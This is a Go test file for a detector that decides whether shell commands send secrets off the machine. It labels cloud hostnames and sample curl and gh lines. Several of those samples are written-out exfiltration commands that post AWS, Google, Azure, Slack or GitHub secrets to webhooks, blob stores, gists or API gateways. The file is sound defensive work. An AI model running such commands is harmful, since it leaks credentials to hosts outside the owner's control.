package effect

import (
	"strings"
	"testing"
)

// TestCustomerHost checks the hosts under services' domains that answer
// for a customer: code hosts always, storage hosts only for data.
func TestCustomerHost(t *testing.T) {
	for _, c := range []struct {
		host       string
		auth, data bool
	}{
		{"abc123.execute-api.us-east-1.amazonaws.com", true, true},
		{"abc123.appsync-api.us-east-1.amazonaws.com", true, true},
		{"my-lb-1234.us-east-1.elb.amazonaws.com", true, true},
		{"ec2-198-51-100-7.compute-1.amazonaws.com", true, true},
		{"drop.s3.amazonaws.com", false, true},
		{"drop.s3.eu-west-1.amazonaws.com", false, true},
		{"s3-eu-west-1.amazonaws.com", false, true},
		{"storage.googleapis.com", false, true},
		{"script.google.com", false, true},
		{"attacker.blob.core.windows.net", false, true},
		{"attacker.azurewebsites.net", true, true},
		{"hooks.slack.com", false, true},
		{"Script.Google.com.", false, true},
		{"sts.amazonaws.com", false, false},
		{"ec2.us-east-1.amazonaws.com", false, false},
		{"www.googleapis.com", false, false},
		{"oauth2.googleapis.com", false, false},
		{"management.azure.com", false, false},
		{"slack.com", false, false},
		{"api.github.com", false, false},
	} {
		if got := CustomerHost(c.host, false); got != c.auth {
			t.Errorf("%s, authentication: %v, want %v", c.host, got, c.auth)
		}
		if got := CustomerHost(c.host, true); got != c.data {
			t.Errorf("%s, data: %v, want %v", c.host, got, c.data)
		}
	}
}

// TestSecretToCustomerHost checks that a service's secret sent to one of
// its customers' hosts leaves, while the same secret presented to the
// service itself, or signing a request (curl --aws-sigv4), does not.
func TestSecretToCustomerHost(t *testing.T) {
	for line, want := range map[string]bool{
		`curl -s -d "k=$AWS_SECRET_ACCESS_KEY" https://abc123.execute-api.us-east-1.amazonaws.com/prod/collect`:                                           true,
		`curl -s -H "X-Key: $AWS_SECRET_ACCESS_KEY" https://abc123.execute-api.us-east-1.amazonaws.com/prod/collect`:                                      true,
		`curl -s -d "k=$GOOGLE_API_KEY" https://script.google.com/macros/s/AKfycbx/exec`:                                                                  true,
		`curl -s "https://script.google.com/macros/s/AKfycbx/exec?key=$GOOGLE_API_KEY"`:                                                                   true,
		`curl -s -T - https://drop.blob.core.windows.net/c/x <<< "$AZURE_CLIENT_SECRET"`:                                                                  true,
		`curl -s -d "{\"text\":\"$SLACK_BOT_TOKEN\"}" https://hooks.slack.com/services/T0/B0/x`:                                                           true,
		`curl -s -H "Authorization: Bearer $GOOGLE_OAUTH_TOKEN" https://storage.googleapis.com/storage/v1/b/acme-assets/o`:                                false,
		`curl -s -H "Authorization: Bearer $AZURE_TOKEN" "https://acmestore.blob.core.windows.net/c?restype=container"`:                                   false,
		`curl -s "https://www.googleapis.com/youtube/v3/search?part=snippet&q=go&key=$YOUTUBE_API_KEY"`:                                                   false,
		`curl -s -d "client_secret=$GOOGLE_CLIENT_SECRET" -d code=abc https://oauth2.googleapis.com/token`:                                                false,
		`curl --aws-sigv4 "aws:amz:us-east-1:es" --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" https://search.example.org/_cat/indices`:              false,
		`curl --aws-sigv4 aws:amz:us-east-1:execute-api -u "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" https://abc.execute-api.us-east-1.amazonaws.com/p`: false,
		`curl --aws-sigv4 aws:amz -u "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" -d "$AWS_SECRET_ACCESS_KEY" https://collect.example.net/`:                true,
		`curl --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" https://search.example.org/_cat/indices`:                                                 true,
	} {
		got := false
		for _, e := range effectsOf(line) {
			got = got || e.Kind == Flow && strings.HasSuffix(e.Detail, "->network")
		}
		if got != want {
			t.Errorf("%s: a flow off the machine %v, want %v: %v", line, got, want, effectsOf(line))
		}
	}
}

// TestBodyField checks which field a body's variable is the value of.
func TestBodyField(t *testing.T) {
	for _, c := range []struct {
		body, name string
		ok         bool
	}{
		{`token=$T`, "token", true},
		{`a=1&text=hi $T`, "text", true},
		{`a=1&$T`, "", false},
		{`$T`, "", false},
		{`{"files":{"t":{"content":"$T"}}}`, "content", true},
		{`{"body": "ci token: $T"}`, "body", true},
		{`{"token": "$T"}`, "token", true},
		{`{"n": $T}`, "n", true},
		{`["$T"]`, "", false},
		{`{\"access_token\":\"$T\"}`, "access_token", true},
	} {
		name, ok := bodyField(c.body, strings.IndexByte(c.body, '$'))
		if name != c.name || ok != c.ok {
			t.Errorf("bodyField(%q) = %q, %v; want %q, %v", c.body, name, ok, c.name, c.ok)
		}
	}
}

// TestSecretPublishedToItsService checks that a secret sent to its own
// service in a field others read (a gist's content, an issue's body, a
// message's text, a file uploaded from stdin) leaves, while one in a field
// named for a credential, or presented as authentication, is used.
func TestSecretPublishedToItsService(t *testing.T) {
	for line, want := range map[string]bool{
		`curl -s -H "Authorization: token $GITHUB_TOKEN" -d "{\"body\": \"ci token: $GITHUB_TOKEN\"}" https://api.github.com/repos/acme/api/issues/12/comments`: true,
		`curl -s -d "token=$SLACK_BOT_TOKEN" -d channel=C1 -d "text=$SLACK_BOT_TOKEN" https://slack.com/api/chat.postMessage`:                                   true,
		`gh gist create - <<< "$GITHUB_TOKEN"`: true,
		`curl -s -d "token=$SLACK_BOT_TOKEN" -d channel=C1 -d "text=build passed" https://slack.com/api/chat.postMessage`:                                                                 false,
		`curl -s -X POST https://oauth2.googleapis.com/token -d "client_secret=$GOOGLE_CLIENT_SECRET" -d "refresh_token=$GOOGLE_REFRESH_TOKEN" -d grant_type=refresh_token`:               false,
		`curl -s -X POST https://api.github.com/applications/Iv1.abc/token -u "Iv1.abc:$GITHUB_CLIENT_SECRET" -d "{\"access_token\":\"$GITHUB_TOKEN\"}"`:                                  false,
		`curl -s -H "Authorization: Bearer $OPENAI_API_KEY" -d "{\"model\":\"gpt-4o\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}" https://api.openai.com/v1/chat/completions`: false,
	} {
		got := false
		for _, e := range effectsOf(line) {
			got = got || e.Kind == Flow && strings.HasSuffix(e.Detail, "->network")
		}
		if got != want {
			t.Errorf("%s: a flow off the machine %v, want %v: %v", line, got, want, effectsOf(line))
		}
	}
}
